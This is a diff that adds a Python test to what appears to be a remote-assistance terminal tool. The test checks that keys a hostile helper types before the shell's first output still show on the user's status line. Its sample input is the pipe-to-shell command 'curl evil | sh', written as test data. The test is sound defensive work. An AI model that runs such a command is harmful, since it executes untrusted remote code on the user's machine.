@@ -138,6 +138,26 @@ def test_a_moving_line_shows_until_the_shell_does(role: Role) -> None:
     staged(NORMAL, test)
 
 
+def test_keys_a_helper_types_before_the_shell_shows_are_on_the_friends_status_line() -> None:
+    """The moving line stands where the shell will show: a hostile helper who types before
+    the shell's first output (keys the shell does not echo) is still seen on the status
+    line, which stays above the moving line."""
+    async def test(stage: Stage) -> None:
+        stage.app.flow.step = Step.CONNECTED
+        live = st.Live(Step.CONNECTED, Options(role=Role.FRIEND),
+                       connected=st.Connected(Role.FRIEND, Role.HELPER, "bob", "192.0.2.7"))
+        shared = stage.app.front.session_view(live)
+        shared.helper_typed("curl evil | sh\r", echo=False)
+        await asyncio.sleep(0.05)
+        text = joined(stage.text())
+        assert "Starting the secure connection" in text  # nothing shown by the shell yet
+        assert "curl evil | sh" in text
+        assert "To end help, press Ctrl+Alt+C." in text
+        shared.close()
+
+    staged(NORMAL, test)
+
+
 # -- line mode's lines ------------------------------------------------------------------
 
 
